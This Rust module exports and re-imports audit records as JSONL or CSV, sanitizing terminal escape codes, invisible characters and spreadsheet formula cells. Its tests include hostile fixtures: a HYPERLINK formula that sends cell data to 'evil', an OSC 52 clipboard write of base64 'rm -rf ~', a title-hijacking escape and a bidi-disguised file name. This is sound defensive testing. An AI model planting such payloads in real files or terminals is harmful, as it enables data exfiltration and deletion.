//! Writing audit records for a post-incident review, and reading them back.
//!
//! An export is for people to read, so it is sanitized like the console: a
//! decision's `by` and `reason` can be written by anyone who may patch a
//! proposal's status (the agent role included), and printing the export
//! (`cat`, `less -R`, a CI log) or opening it in a spreadsheet must not run
//! anything they wrote. Every text field of every record goes through
//! [`AuditRecord::for_reading`] (escape sequences and control characters
//! removed, bidi controls and zero-width characters shown as `⟨U+202E⟩`, line
//! breaks kept), in both formats. In CSV every cell is quoted, and a cell
//! beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (or with the
//! `'` this adds) is prefixed with `'` so a spreadsheet reads it as text, as
//! OWASP recommends against CSV injection; [`import`] removes that prefix.
//! Reading an export back gives ordinary records exactly; hostile text comes
//! back as it was shown, not as it was written.

use super::AuditRecord;
use crate::{Error, Result};
use std::io::{BufRead, BufReader, Read, Write};
use std::str::FromStr;

/// The file formats of an export.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, clap::ValueEnum)]
pub enum ExportFormat {
    /// One JSON object a line, the local log's own format.
    Jsonl,
    /// Comma-separated values with a header row; multi-line text is quoted.
    Csv,
}

impl FromStr for ExportFormat {
    type Err = String;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        match text.trim().to_ascii_lowercase().as_str() {
            "jsonl" | "json" | "ndjson" => Ok(ExportFormat::Jsonl),
            "csv" => Ok(ExportFormat::Csv),
            other => Err(format!("unknown format `{other}`: use jsonl or csv")),
        }
    }
}

/// Writes `records` in `format` to `writer`, in the order given, sanitized
/// for reading (see the module documentation): the output holds no control
/// character but line breaks (escaped in JSONL, inside quoted cells in CSV),
/// no raw bidi control or zero-width character, and no CSV cell a spreadsheet
/// would take for a formula.
pub fn export<W: Write>(
    records: &[AuditRecord],
    format: ExportFormat,
    mut writer: W,
) -> Result<()> {
    let failed = |e: std::io::Error| Error::io("writing the audit export", e);
    match format {
        ExportFormat::Jsonl => {
            for record in records {
                let line = serde_json::to_string(&record.for_reading())
                    .map_err(|e| Error::Serialization(e.to_string()))?;
                writeln!(writer, "{line}").map_err(failed)?;
            }
        }
        ExportFormat::Csv => {
            let mut csv = csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Always)
                .from_writer(&mut writer);
            if records.is_empty() {
                csv.write_record(CSV_HEADER).map_err(csv_error)?;
            }
            for record in records {
                let cells = map_text(record.for_reading(), neutralize_formula);
                csv.serialize(cells).map_err(csv_error)?;
            }
            csv.flush().map_err(failed)?;
        }
    }
    writer.flush().map_err(failed)
}

/// Reads back what [`export`] wrote.
pub fn import<R: Read>(format: ExportFormat, reader: R) -> Result<Vec<AuditRecord>> {
    match format {
        ExportFormat::Jsonl => BufReader::new(reader)
            .lines()
            .filter(|line| line.as_ref().map_or(true, |l| !l.trim().is_empty()))
            .map(|line| {
                let line = line.map_err(|e| Error::io("reading the audit export", e))?;
                serde_json::from_str(&line).map_err(|e| Error::Serialization(e.to_string()))
            })
            .collect(),
        ExportFormat::Csv => csv::Reader::from_reader(reader)
            .deserialize()
            .map(|row| row.map(|r| map_text(r, restore_formula)).map_err(csv_error))
            .collect(),
    }
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP,
/// "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would treat `cell` specially: a formula start, or the
/// `'` that marks text (escaped too, so [`restore_formula`] is exact).
fn needs_text_marker(cell: &str) -> bool {
    cell.starts_with(FORMULA_STARTS) || cell.starts_with('\'')
}

/// `cell` as a spreadsheet reads it as plain text: `'` before a formula start.
fn neutralize_formula(cell: String) -> String {
    if needs_text_marker(&cell) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// Undoes [`neutralize_formula`].
fn restore_formula(cell: String) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_text_marker(rest) => rest.to_string(),
        _ => cell,
    }
}

/// `record` with `change` applied to each of its text fields.
fn map_text(record: AuditRecord, change: impl Fn(String) -> String) -> AuditRecord {
    AuditRecord {
        actor: change(record.actor),
        namespace: change(record.namespace),
        object: change(record.object),
        investigation: record.investigation.map(&change),
        reason: record.reason.map(&change),
        context: record.context.map(&change),
        detail: record.detail.map(&change),
        ..record
    }
}

/// The CSV columns, written alone when there is nothing to export.
const CSV_HEADER: [&str; 12] = [
    "at",
    "actor",
    "verified",
    "action",
    "namespace",
    "object",
    "investigation",
    "reason",
    "edited",
    "context",
    "server",
    "detail",
];

fn csv_error(error: csv::Error) -> Error {
    Error::Serialization(format!("audit CSV: {error}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::AuditAction;

    fn records() -> Vec<AuditRecord> {
        let base = AuditRecord {
            at: "2026-11-27T02:14:07.123456789Z".parse().expect("timestamp"),
            actor: "oncall-1".into(),
            verified: true,
            action: AuditAction::Approve,
            namespace: "payments".into(),
            object: "actionproposal/raise-mem".into(),
            investigation: Some("inv-9".into()),
            reason: None,
            edited: true,
            context: Some("prod".into()),
            server: Some("https://prod.example:6443".into()),
            detail: Some("--- original\n+++ edited\n@@ -1 +1 @@\n-a: 1\n+a: \"2,3\"\n".into()),
        };
        let veto = AuditRecord {
            actor: "rule:timeout".into(),
            verified: false,
            action: AuditAction::Veto,
            investigation: None,
            reason: Some("wrong pod, \"api-0\"".into()),
            edited: false,
            context: None,
            server: None,
            detail: None,
            ..base.clone()
        };
        vec![base, veto]
    }

    #[test]
    fn both_formats_round_trip() {
        for format in [ExportFormat::Jsonl, ExportFormat::Csv] {
            let mut out = Vec::new();
            export(&records(), format, &mut out).expect("export");
            let back = import(format, out.as_slice()).expect("import");
            assert_eq!(back, records(), "{format:?}");
        }
    }

    #[test]
    fn records_written_before_the_server_field_still_read() {
        let old = r#"{"at":"2026-11-27T02:14:07Z","actor":"oncall-1","verified":true,"action":"Approve","namespace":"payments","object":"actionproposal/p","investigation":null,"reason":null,"edited":false,"context":"prod","detail":null}"#;
        let read = import(ExportFormat::Jsonl, old.as_bytes()).expect("old JSON line");
        assert_eq!(read[0].server, None);
        assert_eq!(read[0].context.as_deref(), Some("prod"));
        let old_csv = "at,actor,verified,action,namespace,object,investigation,reason,edited,context,detail\n2026-11-27T02:14:07Z,oncall-1,true,Approve,payments,actionproposal/p,,,false,prod,\n";
        let read = import(ExportFormat::Csv, old_csv.as_bytes()).expect("old CSV");
        assert_eq!(read[0].server, None);
        assert_eq!(read[0].context.as_deref(), Some("prod"));
    }

    #[test]
    fn an_empty_csv_still_has_its_header() {
        let header = CSV_HEADER.map(|name| format!("\"{name}\"")).join(",");
        let mut out = Vec::new();
        export(&[], ExportFormat::Csv, &mut out).expect("export");
        let text = String::from_utf8(out).expect("utf8");
        assert_eq!(text.trim_end(), header);
        let mut one = Vec::new();
        export(&records()[..1], ExportFormat::Csv, &mut one).expect("export");
        let first_line = String::from_utf8(one).expect("utf8");
        assert!(first_line.starts_with(&header), "{first_line}");
    }

    /// Decision text as an agent with `patch` on the status could write it.
    fn hostile() -> AuditRecord {
        AuditRecord {
            actor: "\u{1b}]0;pwned\u{7}oncall-1\u{200b}".into(),
            reason: Some("=HYPERLINK(\"http://evil/?\"&A1,\"fix\")\u{1b}[2J".into()),
            detail: Some(
                "\u{1b}]52;c;cm0gLXJmIH4=\u{7}Patch \u{202e}txt.galf\u{202c}\r\nline 2\u{9b}31m\n"
                    .into(),
            ),
            context: Some("\u{2066}prod\u{2069}".into()),
            ..records()[1].clone()
        }
    }

    #[test]
    fn hostile_text_is_exported_inert_and_visible() {
        for format in [ExportFormat::Jsonl, ExportFormat::Csv] {
            let mut out = Vec::new();
            export(&[hostile()], format, &mut out).expect("export");
            let text = String::from_utf8(out).expect("utf8");
            assert!(
                !text.chars().any(|c| c.is_control() && c != '\n'),
                "{format:?}: a control character in {text:?}"
            );
            assert!(
                !text.chars().any(crate::sanitize::is_invisible),
                "{format:?}: an invisible character in {text:?}"
            );
            assert!(
                text.contains("⟨U+202E⟩txt.galf⟨U+202C⟩"),
                "{format:?}: {text}"
            );
            assert!(text.contains("oncall-1⟨U+200B⟩"), "{format:?}: {text}");
            assert!(
                !text.contains("pwned"),
                "{format:?}: the OSC title kept: {text}"
            );
        }
    }

    #[test]
    fn hostile_text_reads_back_as_it_was_shown() {
        for format in [ExportFormat::Jsonl, ExportFormat::Csv] {
            let mut out = Vec::new();
            export(&[hostile()], format, &mut out).expect("export");
            let back = import(format, out.as_slice()).expect("import");
            assert_eq!(back, [hostile().for_reading()], "{format:?}");
            let detail = back[0].detail.as_deref().expect("detail");
            assert_eq!(detail, "Patch ⟨U+202E⟩txt.galf⟨U+202C⟩\nline 2\n");
        }
    }

    #[test]
    fn formula_cells_are_marked_as_text() {
        let reasons = [
            ("=1+2", "'=1+2"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("'=1", "''=1"),
            ("'quoted'", "''quoted'"),
            ("a = b", "a = b"),
        ];
        for (reason, cell) in reasons {
            let record = AuditRecord {
                reason: Some(reason.into()),
                actor: format!("{reason}actor"),
                ..records()[1].clone()
            };
            let mut out = Vec::new();
            export(std::slice::from_ref(&record), ExportFormat::Csv, &mut out).expect("export");
            let text = String::from_utf8(out).expect("utf8");
            let row = text.lines().nth(1).expect("a row");
            assert!(row.contains(&format!(",\"{cell}\",")), "{reason}: {row}");
            assert!(
                row.contains(&format!(",\"{cell}actor\",")),
                "{reason}: {row}"
            );
            let back = import(ExportFormat::Csv, text.as_bytes()).expect("import");
            assert_eq!(back, [record], "{reason}");
        }
    }

    #[test]
    fn a_tab_or_carriage_return_cannot_start_a_cell() {
        for start in ["\t=cmd", "\r=cmd", "\r\n=cmd"] {
            let record = AuditRecord {
                reason: Some(start.into()),
                ..records()[1].clone()
            };
            let mut out = Vec::new();
            export(&[record], ExportFormat::Csv, &mut out).expect("export");
            let text = String::from_utf8(out).expect("utf8");
            assert!(!text.contains(['\t', '\r']), "{text:?}");
            assert!(!text.contains(",\"="), "{text:?}");
        }
    }

    #[test]
    fn a_leading_apostrophe_written_by_an_older_version_is_kept() {
        let old = "at,actor,verified,action,namespace,object,investigation,reason,edited,context,detail\n\
                   2026-11-27T02:14:07Z,oncall-1,true,Veto,payments,actionproposal/x,,'quoted',false,,\n";
        let back = import(ExportFormat::Csv, old.as_bytes()).expect("import");
        assert_eq!(back[0].reason.as_deref(), Some("'quoted'"));
    }

    #[test]
    fn formats_parse_from_the_command_line() {
        assert_eq!("CSV".parse(), Ok(ExportFormat::Csv));
        assert_eq!("jsonl".parse(), Ok(ExportFormat::Jsonl));
        assert!("xml".parse::<ExportFormat>().is_err());
    }
}
